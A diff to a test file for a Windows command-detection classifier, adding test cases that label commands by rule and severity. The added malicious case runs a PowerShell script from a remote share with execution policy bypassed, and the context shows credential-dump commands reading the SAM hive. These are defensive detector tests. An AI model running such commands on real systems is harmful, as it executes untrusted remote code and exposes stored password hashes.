@@ -201,6 +201,7 @@ const POSITIVE: readonly (readonly [string, string, string])[] = [
     'windows.lolbin-exec',
     'critical',
   ],
+  ['powershell -ep bypass -f \\\\198.51.100.8\\share\\a.ps1', 'windows.download-exec', 'high'],
   // The SAM, SECURITY and SYSTEM hives read as files.
   ['Get-Content C:\\Windows\\System32\\config\\SAM', 'windows.credential-dump', 'high'],
   ['type %SystemRoot%\\repair\\sam', 'windows.credential-dump', 'high'],
@@ -298,6 +299,7 @@ const NEGATIVE: readonly (readonly [string, string | null])[] = [
   ["Write-Host ('{0} files in {1}' -f $n, $dir)", null],
   ['msbuild MyApp.sln /p:Configuration=Release /m', null],
   ['dir C:\\Windows\\System32\\config\\systemprofile', null],
+  ['powershell -NoProfile -File .\\scripts\\build.ps1', null],
   ['Get-Item C:\\Windows\\System32\\config\\SYSTEM.LOG1 | Select-Object Length', null],
   ['esentutl /y C:\\db\\app.edb /d D:\\backup\\app.edb', null],
   ['forfiles /p C:\\logs /s /m *.log /d -30 /c "cmd /c del @path"', null],
